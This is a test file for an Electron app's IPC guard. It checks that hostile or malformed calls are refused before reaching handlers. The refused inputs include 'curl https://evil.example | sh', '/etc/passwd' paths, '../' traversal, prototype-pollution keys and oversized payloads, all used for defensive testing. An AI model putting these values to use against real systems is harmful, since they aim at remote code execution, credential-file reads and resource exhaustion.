import type { IpcMainInvokeEvent } from 'electron';
import * as v from 'valibot';
import { describe, expect, it, vi } from 'vitest';
import { NOTHING_SHOWN } from '#core/app/shown.ts';
import { ok } from '#core/base/result.ts';
import { isBounded, isFromOwnPage } from '#ipc/guard.ts';
import { calls } from '#ipc/contract.ts';
import { callChannel, type CallName } from '#ipc/names.ts';
import { joined } from '../../support/joined-ipc.ts';
import { trade } from '../../support/trades.ts';

const CONVERSION = { amount: '1', from: 'USD', to: 'NGN' };
const COPY = { kind: 'conversion', market: null, written: 'exact' };
const DEAL = { ticker: 'USDTNGN', side: 'buy', amount: '1', unit: 'money' };

const { id: _id, entry: _entry, good: _good, ...TRADE_INPUT } = trade('buy 1 @ 1');
const TRADE = { ...TRADE_INPUT, id: null };

it('what the refused ones differ from is not refused', () => {
  expect(v.is(calls.copy.args, { ...COPY, question: CONVERSION })).toBe(true);
  expect(v.is(calls.copy.args, { kind: 'deal', code: 'delta', question: DEAL })).toBe(true);
  expect(v.is(calls.checkAgainstService.args, { ...CONVERSION, market: 'mid' })).toBe(true);
  expect(v.is(calls.saveTrade.args, TRADE)).toBe(true);
});

const TOKEN = `12345:${'a'.repeat(35)}`;

describe('what leaves the window or costs money', () => {
  it.each([
    ['testAlert', 6],
    ['testDestination', 6],
    ['findChat', 6],
    ['previewDigest', 30],
    ['refresh', 30],
  ] as const)('%s is done %i times a minute', async (name, perMinute) => {
    const handler = vi.fn(() => ok(null));
    let nowMs = 1_000;
    const { bridge } = joined({ handlers: { [name]: handler }, steadyMs: () => nowMs });
    const call = bridge[name] as (args?: unknown) => Promise<unknown>;
    const args = { testDestination: 'one', findChat: TOKEN }[name as string];
    for (let index = 0; index < 300; index += 1) await call(args);
    expect(handler).toHaveBeenCalledTimes(perMinute);
    expect(await call(args)).toMatchObject({ ok: false, error: { code: 'too-often' } });
    nowMs += 60_000;
    expect(await call(args)).toEqual(ok(null));
  });
});

describe('a call is refused with an error, and reaches no handler', () => {
  it('from a sender that is not trusted', async () => {
    const refresh = vi.fn(() => ok(null));
    const { bridge } = joined({ trusted: false, handlers: { refresh } });
    expect(await bridge.refresh()).toMatchObject({ ok: false, error: { code: 'refused-call' } });
    expect(refresh).not.toHaveBeenCalled();
  });

  it.each([
    ['choose', { market: 'black' }],
    ['choose', { market: undefined }],
    ['choose', undefined],
    ['choose', { pinned: 'yes' }],
    ['choose', { more: 1 }],
    ['choose', { 'alerts.sound': true }],
    ['refresh', {}],
    // Kept by main, or changed by commands of their own.
    ['choose', { popupSize: null }],
    ['choose', { shortcut: null }],
    ['choose', { recent: [] }],
    ['choose', { pins: [] }],
    ['choose', { alerts: { rules: [] } }],
    ['choose', { alerts: { digest: { minutes: [], isHere: true, sendTo: 'none' } } }],
    ['choose', { quotes: { turned: [] } }],
    ['choose', { versions: { checkedAtMs: 0 } }],
    ['choose', { desk: { prices: [] } }],
    ['choose', { desk: { template: '{path}' } }],
    ['choose', { desk: { template: 'x'.repeat(2_001) } }],
    ['choose', { desk: { template: 'a\u202eb' } }],
    ['saveTrade', { ...TRADE, amount: '0' }],
    ['saveTrade', { ...TRADE, price: '-1' }],
    ['saveTrade', { ...TRADE, fee: '1e9' }],
    ['saveTrade', { ...TRADE, atMs: 0.5 }],
    ['saveTrade', { ...TRADE, note: 'x'.repeat(501) }],
    ['saveTrade', { ...TRADE, origin: 'real' }],
    ['show', { ...NOTHING_SHOWN, convert: undefined }],
    ['show', { ...NOTHING_SHOWN, history: null }],
    ['show', { ...NOTHING_SHOWN, convert: { amount: '1', from: 'USD' } }],
    ['show', { ...NOTHING_SHOWN, convert: { ...CONVERSION, more: 1 } }],
    ['show', { ...NOTHING_SHOWN, convert: { ...CONVERSION, amount: 'x'.repeat(201) } }],
    ['show', { ...NOTHING_SHOWN, alerts: { subject: { kind: 'path' } } }],
    ...[
      '',
      '1,200',
      '5k',
      '-1',
      '1e9',
      '1e400',
      '0x1f',
      '9'.repeat(62),
      `0.${'1'.repeat(121)}`,
    ].flatMap((amount): [CallName, unknown][] => [
      ['copy', { ...COPY, question: { ...CONVERSION, amount } }],
      ['copy', { ...COPY, question: { ...CONVERSION, fee: amount } }],
      ['copy', { ...COPY, question: { ...CONVERSION, quoted: amount } }],
      ['copy', { kind: 'deal', code: 'delta', question: { ...DEAL, amount } }],
      ['checkAgainstService', { ...CONVERSION, amount, market: 'mid' }],
      [
        'saveCard',
        { png: new Uint8Array(9), of: { kind: 'deal', platform: 'delta', ...DEAL, amount } },
      ],
      ['savePlace', { convert: { ...CONVERSION, drives: 'give', exact: amount } }],
    ]),
    ['copy', { kind: 'conversion', market: 'black', written: 'exact', question: CONVERSION }],
    ['copy', { kind: 'conversion', market: null, written: 'html', question: CONVERSION }],
    ['copy', '1'.repeat(601)],
    ['copy', 'curl https://evil.example | sh'],
    ['copy', '100 USD'],
    ['copy', ''],
    [
      'show',
      { ...NOTHING_SHOWN, rates: { codes: Array.from({ length: 201 }, () => 'NGN'), open: null } },
    ],
    ['show', { ...NOTHING_SHOWN, rates: { codes: [], open: '../x' } }],
    ['choose', { shown: '../x' }],
    ['choose', { groups: [{ id: 'own-1', name: 'x'.repeat(25), codes: [] }] }],
    ['choose', { groups: Array.from({ length: 13 }, () => ({ id: 'a', name: 'a', codes: [] })) }],
    ['choose', { trayText: 'loud' }],
    ['choose', { theme: 'blue' }],
    ['choose', { textPercent: 300 }],
    ['choose', { locale: '../x' }],
    ['choose', { retention: { rawDays: 7 } }],
    ['resetSettings', 'everything'],
    ['pinToTray', { kind: 'pair', base: 'USD', quote: 'NGN', market: 'black' }],
    ['pinToTray', { kind: 'path', base: 'USD', quote: 'NGN', market: 'mid' }],
    ['pinToTray', { kind: 'quote', ticker: 'USDTNGN', platform: 'alpha', side: 'mid' }],
    ['pinToTray', { kind: 'quote', ticker: 'USDTNGN', platform: 'a\nb', side: 'ask' }],
    ['exportHistory', { format: 'xml', pair: null }],
    ['exportHistory', { format: 'csv', pair: { base: 'USD', quote: '../x', market: 'mid' } }],
    ['exportHistory', { format: 'csv', pair: null, path: '/etc/passwd' }],
    ['backUp', '/etc/passwd'],
    ['exportSettings', '/etc/passwd'],
    ['chooseSettingsFile', '/etc/passwd'],
    ['importSettings', { localInterface: true }],
    [
      'show',
      {
        ...NOTHING_SHOWN,
        platforms: { ticker: 'usdt/ngn', side: 'buy', amount: '1', unit: 'money' },
      },
    ],
    [
      'show',
      {
        ...NOTHING_SHOWN,
        platforms: { ticker: 'USDTNGN', side: 'have-it-all', amount: '1', unit: 'money' },
      },
    ],
    ['choosePlatform', { ticker: 'USDTNGN', code: 'a', terms: { buyPercent: '100' } }],
    ['choosePlatform', { ticker: 'USDTNGN', code: 'a', terms: { buyPercent: '-1' } }],
    ...[0, 1.5, 43_201].flatMap((minutes): [CallName, unknown][] =>
      [{ minutes }, { networkMinutes: minutes }, { swaps: [{ to: 'NGN', minutes }] }].map(
        (terms) => ['choosePlatform', { ticker: 'USDTNGN', code: 'a', terms }],
      ),
    ),
    ['choosePlatform', { ticker: 'USDTNGN', code: 'x'.repeat(65) }],
    ['fixSides', { ticker: 'USDTNGN', ask: 'both' }],
    ['addTicker', { asset: 'E-T', money: 'NGN' }],
    [
      'chart',
      { series: [], side: 'ask', kind: 'line', premiumUnder: null, range: { preset: 'day' } },
    ],
    [
      'chartRanks',
      { series: [{ kind: 'platform', ticker: 'USDTNGN', platform: '' }], side: 'ask' },
    ],
    [
      'chartRanks',
      {
        series: ['a', 'b', 'c', 'd', 'e'].map((platform) => ({
          kind: 'platform',
          ticker: 'USDTNGN',
          platform,
        })),
        side: 'ask',
        premiumUnder: null,
      },
    ],
    ['dayValues', { market: 'mid', base: 'USD', dayMs: '2026-02-30' }],
    ['choose', { place: { tab: 'rates' } }],
    ['savePlace', { tab: 'settings' }],
    ['savePlace', { tab: undefined }],
    ['savePlace', { theme: 'dark' }],
    ['savePlace', { convert: { amount: 'x'.repeat(201), from: 'USD', to: 'NGN', drives: 'give' } }],
    ['savePlace', { convert: { amount: '1', from: '../x', to: 'NGN', drives: 'give' } }],
    ['requestDays', { dayMs: 'today' }],
    ['requestDays', { market: 'mid', fromMs: -1, toMs: 5 }],
    ['chooseShortcut', { accelerator: 'Control+Alt+Nothing', printed: null }],
    ['chooseShortcut', { accelerator: 'Alt+Control+P', printed: null }],
    ['chooseShortcut', { accelerator: 'Control+Alt+P', printed: 'long' }],
    ['chooseShortcut', 'Control+Alt+P'],
    ['startAtLogin', '/usr/bin/other'],
    ['listImage', '/usr/bin/other'],
  ] satisfies [CallName, unknown][])('%s with %j', async (name, args) => {
    const handler = vi.fn(() => ok(null));
    const { invoke } = joined({ handlers: { [name]: handler } });
    expect(await invoke(callChannel(name), args)).toMatchObject({
      ok: false,
      error: { code: 'refused-call' },
    });
    expect(handler).not.toHaveBeenCalled();
  });
});

describe('invalid arguments are refused before any handler runs', () => {
  const deep = (levels: number): unknown => {
    let value: unknown = 'end';
    for (let level = 0; level < levels; level += 1) value = { in: value };
    return value;
  };
  it.each([
    ['a million levels', deep(1_000_000)],
    ['nine levels', deep(9)],
    ['a million entries', Array.from({ length: 1_000_000 }, () => 0)],
    ['a million names', Object.fromEntries(Array.from({ length: 1_000_000 }, (_, i) => [i, 0]))],
    ['two lists with too many entries', [Array(3_000).fill(0), Array(3_000).fill(0)]],
    ['one very long text', 'x'.repeat(50_000_000)],
    ['one very long name', { ['x'.repeat(50_000_000)]: 1 }],
    [
      'many lists of lists',
      Array.from({ length: 400 }, () => Array.from({ length: 400 }, () => 0)),
    ],
    ['a map', new Map([['amount', '1']])],
    ['a date', new Date(0)],
    ['bytes', new Uint8Array(10)],
    ['bytes in a list of a field', { png: [new Uint8Array(10)] }],
    ['a buffer', { png: new ArrayBuffer(10) }],
    ['a pattern', /x/],
    ['an error', new Error('x')],
  ])('%s', async (_what, args) => {
    expect(isBounded(args)).toBe(false);
    const show = vi.fn(() => ok(null));
    const { invoke } = joined({ handlers: { show } });
    expect(await invoke(callChannel('show'), args)).toMatchObject({
      ok: false,
      error: { code: 'refused-call' },
    });
    expect(show).not.toHaveBeenCalled();
  });

  it('and more than one', async () => {
    const refresh = vi.fn(() => ok(null));
    const { invoke } = joined({ handlers: { refresh } });
    expect(await invoke(callChannel('refresh'), undefined, 1)).toMatchObject({ ok: false });
    expect(refresh).not.toHaveBeenCalled();
  });

  it.each(['__proto__', 'constructor', 'prototype'])('%s changes nothing', async (name) => {
    const args = JSON.parse(
      `{"amount":"1","from":"USD","to":"NGN","drives":"give","${name}":{"polluted":true}}`,
    ) as unknown;
    const rememberConversion = vi.fn((given: object) => ok(given));
    const { invoke } = joined({ handlers: { rememberConversion } });
    const answer = await invoke(callChannel('rememberConversion'), args);
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
    expect(JSON.stringify(answer)).not.toContain('polluted');
  });
});

describe('a sender is the own page', () => {
  const origin = 'app://parallax';
  const frame = { origin, parent: null, detached: false };
  const isOwn = (senderFrame: object | null): boolean =>
    isFromOwnPage({ senderFrame } as IpcMainInvokeEvent, origin);

  it('as its main frame, of exactly that origin', () => expect(isOwn(frame)).toBe(true));
  it.each([
    ['a frame that is gone', null],
    ['a frame that left the page', { ...frame, detached: true }],
    ['a frame within the page', { ...frame, parent: frame }],
    ['a sandboxed page', { ...frame, origin: 'null' }],
    ['a page without an origin', { ...frame, origin: '' }],
    ['a longer host', { ...frame, origin: 'app://parallax.evil' }],
    ['another scheme', { ...frame, origin: 'https://parallax' }],
    ['another case', { ...frame, origin: 'APP://parallax' }],
  ])('but not %s', (_what, other) => expect(isOwn(other)).toBe(false));
});
